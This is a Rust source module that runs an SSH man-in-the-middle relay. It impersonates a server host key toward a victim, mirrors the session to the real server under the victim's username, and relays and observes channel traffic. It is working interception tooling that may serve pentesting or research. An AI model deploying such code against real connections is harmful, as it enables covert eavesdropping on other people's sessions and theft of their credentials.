//! Session orchestration: both legs, channel pairing, teardown.

use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use super::pair::ChannelPair;
use super::session::{RelaySession, SessionState};
use crate::config::Config;
use crate::error::{Leg, MitmError, Result};
use crate::facade::{ClientFacade, InboundEvent, OutboundEvent, ServerFacade};
use crate::hooks::{ConsoleSink, ObservationSink};
use crate::identity::{HostIdentity, DEFAULT_RSA_BITS};
use crate::lifecycle::LifecycleController;

const DEFAULT_HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(15);
/// How long teardown waits for workers and watchers before giving up on
/// politeness.
const DRAIN_GRACE: Duration = Duration::from_secs(5);

/// Drives intercepted sessions. One engine serves any number of
/// concurrent sessions; they share nothing but its configuration, so an
/// engine with a fixed identity yields a stable impersonated fingerprint
/// across sessions.
pub struct RelayEngine {
    identity: Option<HostIdentity>,
    sink: Arc<dyn ObservationSink>,
    handshake_timeout: Duration,
    session_deadline: Option<Duration>,
}

impl RelayEngine {
    pub fn new() -> Self {
        Self {
            identity: None,
            sink: Arc::new(ConsoleSink),
            handshake_timeout: DEFAULT_HANDSHAKE_TIMEOUT,
            session_deadline: None,
        }
    }

    /// Impersonate with this host key instead of generating one per
    /// session.
    pub fn with_identity(mut self, identity: HostIdentity) -> Self {
        self.identity = Some(identity);
        self
    }

    pub fn with_sink(mut self, sink: Arc<dyn ObservationSink>) -> Self {
        self.sink = sink;
        self
    }

    pub fn with_handshake_timeout(mut self, handshake_timeout: Duration) -> Self {
        self.handshake_timeout = handshake_timeout;
        self
    }

    /// Hard per-session deadline; expiry tears the session down as a
    /// normal (non-error) termination.
    pub fn with_session_deadline(mut self, deadline: Duration) -> Self {
        self.session_deadline = Some(deadline);
        self
    }

    pub fn from_config(config: &Config, identity: Option<HostIdentity>) -> Self {
        let mut engine = Self::new().with_handshake_timeout(config.server.handshake_timeout);
        if let Some(deadline) = config.server.session_timeout {
            engine = engine.with_session_deadline(deadline);
        }
        if let Some(identity) = identity {
            engine = engine.with_identity(identity);
        }
        engine
    }

    /// Intercept one session: terminate the victim's handshake on
    /// `inbound`, impersonate the victim toward the real server on
    /// `outbound`, and relay until either leg dies, `parent` is
    /// cancelled, or the session deadline expires.
    ///
    /// Blocks until the session is fully closed with every worker joined.
    /// Identity and handshake failures are returned; cancellation and
    /// deadline expiry are normal terminations and return `Ok`.
    pub async fn relay(
        &self,
        parent: &CancellationToken,
        inbound: TcpStream,
        outbound: TcpStream,
    ) -> Result<()> {
        let victim_addr = inbound
            .peer_addr()
            .map_err(|e| MitmError::handshake(Leg::Inbound, e))?;
        let server_addr = outbound
            .peer_addr()
            .map_err(|e| MitmError::handshake(Leg::Outbound, e))?;
        let timestamp = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .unwrap_or_default()
            .as_millis();
        let session = Arc::new(RelaySession::new(
            format!("mitm_{}_{}", timestamp, victim_addr.port()),
            victim_addr,
            server_addr,
        ));
        info!(
            session_id = %session.session_id,
            victim = %victim_addr,
            server = %server_addr,
            "intercepting session"
        );

        let mut scope = LifecycleController::derived_from(parent);
        if let Some(deadline) = self.session_deadline {
            scope = scope.with_deadline(deadline);
        }

        let identity = match &self.identity {
            Some(identity) => identity.clone(),
            None => {
                debug!(session_id = %session.session_id, "no identity configured, generating");
                // RSA generation is CPU-bound and slow; keep it off the
                // async workers.
                match tokio::task::spawn_blocking(|| HostIdentity::generate(DEFAULT_RSA_BITS)).await
                {
                    Ok(generated) => generated?,
                    Err(e) => {
                        return Err(MitmError::relay(
                            Leg::Inbound,
                            format!("key generation task failed: {}", e),
                        ))
                    }
                }
            }
        };

        session.set_state(SessionState::ServerHandshaking);
        let server =
            match ServerFacade::start(inbound, &identity, self.handshake_timeout, scope.token())
                .await
            {
                Ok(server) => server,
                Err(e) => return finish(&session, None, Err(e)),
            };

        session.set_state(SessionState::ClientHandshaking);
        let client = match ClientFacade::start(
            outbound,
            server.username(),
            self.handshake_timeout,
            scope.token(),
        )
        .await
        {
            Ok(client) => client,
            Err(e) => {
                // the half that did succeed does not get to linger
                server.task.abort();
                return finish(&session, Some(server.username()), Err(e));
            }
        };

        session.set_state(SessionState::Relaying);
        self.run_relaying(scope, session, server, client).await
    }

    /// The `Relaying` phase: two per-facade event loops plus two leg
    /// watchers, all meeting at the session scope.
    async fn run_relaying(
        &self,
        scope: LifecycleController,
        session: Arc<RelaySession>,
        server: ServerFacade,
        client: ClientFacade,
    ) -> Result<()> {
        let ServerFacade {
            username,
            handle: server_handle,
            events: mut inbound_events,
            task: server_task,
        } = server;
        let (mut control, mut outbound_events, client_closed) = client.split();

        // First terminal error wins; later failures are consequences.
        let terminal: Arc<Mutex<Option<MitmError>>> = Arc::new(Mutex::new(None));
        let server_abort = server_task.abort_handle();

        let inbound_watch = tokio::spawn({
            let scope = scope.clone();
            let terminal = terminal.clone();
            let session = session.clone();
            async move {
                match server_task.await {
                    Ok(Ok(())) | Ok(Err(russh::Error::Disconnect)) => {
                        debug!(session_id = %session.session_id, "inbound leg closed");
                    }
                    Ok(Err(e)) => {
                        debug!(session_id = %session.session_id, error = %e, "inbound leg failed");
                        if !scope.is_cancelled() {
                            record(&terminal, MitmError::relay(Leg::Inbound, e));
                        }
                    }
                    Err(e) if e.is_cancelled() => {}
                    Err(e) => {
                        warn!(session_id = %session.session_id, error = %e, "inbound leg task failed");
                    }
                }
                scope.cancel();
            }
        });

        let outbound_watch = tokio::spawn({
            let scope = scope.clone();
            let terminal = terminal.clone();
            let session = session.clone();
            async move {
                client_closed.cancelled().await;
                if !scope.is_cancelled() {
                    debug!(session_id = %session.session_id, "outbound leg closed");
                    record(&terminal, MitmError::relay(Leg::Outbound, "connection closed"));
                }
                scope.cancel();
            }
        });

        // Victim-initiated activity: the pairing path.
        let pairing = async {
            let mut workers: JoinSet<()> = JoinSet::new();
            let mut next_pair_id: u32 = 0;
            loop {
                tokio::select! {
                    _ = scope.cancelled() => break,
                    event = inbound_events.recv() => {
                        let Some(event) = event else { break };
                        match event {
                            InboundEvent::ChannelOpen(open) => {
                                debug!(
                                    session_id = %session.session_id,
                                    kind = %open.kind,
                                    "victim channel-open"
                                );
                                // The mirror can stall on an unresponsive
                                // server; cancellation must still win.
                                let mirrored = tokio::select! {
                                    _ = scope.cancelled() => {
                                        let _ = open.verdict.send(false);
                                        break;
                                    }
                                    result = control.mirror_open(&open.kind) => result,
                                };
                                match mirrored {
                                    Err(e) => {
                                        // Local to this open: the victim
                                        // gets a refusal, the session
                                        // stays up.
                                        warn!(
                                            session_id = %session.session_id,
                                            kind = %open.kind,
                                            error = %e,
                                            "channel-open could not be mirrored, rejecting"
                                        );
                                        let _ = open.verdict.send(false);
                                    }
                                    Ok(mut mirrored) => {
                                        if open.verdict.send(true).is_err() {
                                            // victim side vanished while
                                            // we were opening outbound
                                            let _ = mirrored.close().await;
                                            continue;
                                        }
                                        let pair = ChannelPair {
                                            pair_id: next_pair_id,
                                            inbound: open.channel,
                                            outbound: mirrored,
                                            server_handle: server_handle.clone(),
                                            session: session.clone(),
                                            sink: self.sink.clone(),
                                            token: scope.child(),
                                        };
                                        next_pair_id += 1;
                                        workers.spawn(pair.run());
                                    }
                                }
                            }
                            InboundEvent::GlobalRequest { kind, verdict } => {
                                debug!(session_id = %session.session_id, ?kind, "denying global request");
                                let _ = verdict.send(false);
                            }
                        }
                    }
                }
            }

            session.set_state(SessionState::Draining);
            // Every spawned worker is joined before the session counts as
            // closed; their child tokens are already cancelled or about
            // to be.
            let drain = async {
                while workers.join_next().await.is_some() {}
            };
            if timeout(DRAIN_GRACE, drain).await.is_err() {
                warn!(session_id = %session.session_id, "channel workers did not drain in time");
                workers.shutdown().await;
            }
            control.disconnect().await;
        };

        // Server-initiated activity: refused, never brokered.
        let prohibit = async {
            loop {
                tokio::select! {
                    _ = scope.cancelled() => break,
                    event = outbound_events.recv() => {
                        let Some(event) = event else { break };
                        match event {
                            OutboundEvent::ChannelOpen { kind, channel } => {
                                info!(
                                    session_id = %session.session_id,
                                    ?kind,
                                    "refusing server-initiated channel-open"
                                );
                                drop(channel);
                            }
                        }
                    }
                }
            }
        };

        tokio::join!(pairing, prohibit);

        scope.cancel();
        server_abort.abort();
        let _ = timeout(DRAIN_GRACE, async {
            let _ = inbound_watch.await;
            let _ = outbound_watch.await;
        })
        .await;

        let outcome = match terminal.lock().unwrap_or_else(|e| e.into_inner()).take() {
            Some(err) => Err(err),
            None => Ok(()),
        };
        finish(&session, Some(&username), outcome)
    }
}

impl Default for RelayEngine {
    fn default() -> Self {
        Self::new()
    }
}

fn record(slot: &Mutex<Option<MitmError>>, err: MitmError) {
    let mut slot = slot.lock().unwrap_or_else(|e| e.into_inner());
    if slot.is_none() {
        *slot = Some(err);
    }
}

/// Close out the session's bookkeeping and normalize the outcome:
/// cancellation and deadline expiry are not errors.
fn finish(session: &RelaySession, username: Option<&str>, outcome: Result<()>) -> Result<()> {
    session.set_state(SessionState::Closed);
    session.log_summary(username);
    match outcome {
        Err(MitmError::Timeout) => {
            debug!(session_id = %session.session_id, "session cancelled");
            Ok(())
        }
        other => other,
    }
}
